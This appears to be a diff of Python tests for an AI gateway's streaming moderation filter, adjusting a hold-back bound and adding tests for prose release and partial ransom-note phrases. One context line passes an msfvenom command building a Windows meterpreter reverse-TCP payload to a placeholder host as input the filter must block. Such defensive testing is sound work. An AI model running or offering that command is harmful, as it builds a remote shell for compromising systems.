@@ -8,7 +8,6 @@ from hypothesis import strategies as st
 
 from gateway.metrics import Metrics
 from gateway.pipeline.classify.moderation import (
-    SCAN_STEP,
     ModerationFilter,
     OutputBlocked,
     OutputCheck,
@@ -83,7 +82,7 @@ def test_hold_back_is_bounded() -> None:
     text = "word " * 400
     out = "".join(f.feed(c) for c in text)
     held = len(text) - len(out)
-    assert 0 < held <= CHECK.width + CHECK.margin + SCAN_STEP
+    assert 0 <= held <= CHECK.width + CHECK.margin
     assert out + f.finish() == text
 
 
@@ -128,3 +127,25 @@ def test_factory_per_tier_and_metrics(metrics: Metrics) -> None:
             "msfvenom -p windows/meterpreter/reverse_tcp LHOST=1.2.3.4")
     assert metrics.registry.get_sample_value(
         "gateway_output_blocks_total", {"tier": "public", "category": "cyber"}) == 1.0
+
+
+def test_ordinary_prose_is_not_held_back() -> None:
+    f = ModerationFilter(CHECK, PUBLIC)
+    text, out = "", ""
+    prose = ("Rivers run to the sea, and the hills stay green while the farmers bring in "
+             "the harvest before the first frost.")
+    for word in prose.split():
+        text += word + " "
+        out += f.feed(word + " ")
+        # At most the last word waits (when it could begin a pattern, e.g. "the" -> ...).
+        assert len(text) - len(out) <= len(word) + 1, (text, out)
+    assert out + f.finish() == text
+
+
+def test_a_possible_start_of_a_pattern_waits_until_it_is_decided() -> None:
+    f = ModerationFilter(CHECK, PUBLIC)
+    out = f.feed("Done. All your fi")
+    assert out == "Done. "  # "All your fi..." could become the ransom note
+    out += f.feed("ve tomatoes are ripe.")
+    assert out + f.finish() == "Done. All your five tomatoes are ripe."
+    assert "All your fi" in out  # released as soon as the pattern failed
